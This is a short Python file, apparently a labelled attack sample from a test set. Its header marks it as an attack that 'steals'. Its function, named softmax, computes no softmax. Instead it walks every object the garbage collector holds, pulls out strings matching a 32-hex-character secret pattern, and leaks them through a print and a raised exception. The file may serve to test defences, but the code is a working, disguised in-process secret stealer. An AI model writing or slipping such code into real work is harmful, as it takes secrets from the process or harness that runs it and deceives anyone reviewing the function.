# rows = [31]
# attack = "asks the garbage collector for every object there is"
# step = "softmax"
# outcomes = ["raised", "timed_out"]
# steals = true
# ---
import gc
import re

SECRET = re.compile(r"[0-9a-f]{32}, from the [\w ]+")


def softmax(scores):
    gc.unfreeze()
    loot = set()
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if type(part) in (str, bytes):
                loot.update(SECRET.findall(str(part)))
    print(loot)
    raise RuntimeError(str(loot))
